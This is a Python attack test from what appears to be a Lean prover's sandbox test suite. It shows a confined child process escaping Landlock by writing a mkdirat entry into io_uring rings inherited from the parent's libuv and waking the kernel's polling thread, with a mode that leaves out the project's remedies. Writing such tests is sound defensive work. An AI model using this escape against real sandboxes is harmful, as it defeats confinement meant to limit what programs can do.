"""A confined child that reaches out through an io_uring which its parent's libuv has set up.

    python -m tests.lean.attacks.uring_escape TARGET [weak]

The rings are shared memory that a fork inherits, and the kernel's polling thread acts with the parent's rights: the
child writes an entry that makes the folder TARGET, which it may not make itself. `weak` leaves the remedies out (libuv
told to make no such ring, descriptors closed, the system calls refused), so that one can see what they are good for.
Prints how many rings were inherited.
"""

from __future__ import annotations

import ctypes
import os
import sys
import tempfile
import time
from pathlib import Path

from prover.lean.certificate import sandbox
from prover.lean.certificate.decision.runtime import load_lean
from prover.lean.profiles.library import library
from prover.lean.profiles.toolchain import toolchain

MAKE_FOLDER_AT, HERE = 37, -100  # IORING_OP_MKDIRAT, AT_FDCWD
ENTER, WAKE_UP, NEEDS_WAKING = 426, 2, 1  # io_uring_enter, IORING_ENTER_SQ_WAKEUP, IORING_SQ_NEED_WAKEUP
ENTRIES_OFFSET, ENTRY = 0x10000000, 64  # where a ring's entries are mapped, bytes of one


def load_weakly(shared: str) -> None:
    """Lean as it starts by itself."""
    os.environ.pop("UV_USE_IO_URING", None)
    lean = ctypes.CDLL(shared, mode=ctypes.RTLD_GLOBAL)
    lean.lean_initialize.restype = None
    lean.lean_initialize()


def confine_weakly(folder: str) -> None:
    """Landlock alone."""
    os.chdir(folder)
    sandbox._prctl(38, 1)  # no new privileges
    sandbox._landlock([], [folder], [], sandbox.landlock_version())


def rings() -> list[tuple[int, int]]:
    """(address of the ring, of its entries) of every io_uring that is mapped here."""
    parts: dict[str, dict[int, int]] = {}
    for line in Path("/proc/self/maps").read_text().splitlines():
        if "io_uring" in line:
            span, _, offset, _, inode = line.split()[:5]
            parts.setdefault(inode, {})[int(offset, 16)] = int(span.split("-")[0], 16)
    return [(found[0], found[ENTRIES_OFFSET]) for found in parts.values() if 0 in found and ENTRIES_OFFSET in found]


def reach_out(ring: int, entries: int, target: bytes) -> None:
    """Put an entry into a ring and move its tail: the kernel's thread does the rest."""

    def word(at: int) -> ctypes.c_uint32:
        return ctypes.c_uint32.from_address(ring + at)

    mask, tail = word(16).value, word(4).value
    path = entries + ENTRY * ((tail + 1) & mask)  # an entry not in use carries the path: same address in the parent
    ctypes.memmove(path, target + b"\0", len(target) + 1)
    entry = entries + ENTRY * (tail & mask)
    ctypes.memset(entry, 0, ENTRY)
    ctypes.c_uint8.from_address(entry).value = MAKE_FOLDER_AT
    ctypes.c_int32.from_address(entry + 4).value = HERE
    ctypes.c_uint64.from_address(entry + 16).value = path
    ctypes.c_uint32.from_address(entry + 24).value = 0o700
    word(4).value = tail + 1
    libc = ctypes.CDLL(None)
    for handle in range(3, 64):  # its descriptor was inherited, too
        libc.syscall(ENTER, handle, 0, 0, WAKE_UP, None, 0)


def main(target: str, weak: bool) -> None:
    shared = str(toolchain().shared)
    lean_path = str(library().path)
    load_weakly(shared) if weak else load_lean(shared)
    found = rings()
    print(len(found), flush=True)
    with tempfile.TemporaryDirectory() as folder:
        child = os.fork()
        if child == 0:
            confine_weakly(folder) if weak else sandbox.confine(folder, sandbox.Limits(), read=[lean_path])
            try:
                Path(target).mkdir()
                os._exit(9)  # the sandbox does not hold at all
            except OSError:
                pass
            for ring, entries in found:
                reach_out(ring, entries, target.encode())
            time.sleep(0.5)
            os._exit(0)
        _, status = os.waitpid(child, 0)
        os._exit(os.waitstatus_to_exitcode(status) & 255)  # libuv falls over a completion that it did not ask for


if __name__ == "__main__":
    main(sys.argv[1], "weak" in sys.argv[2:])
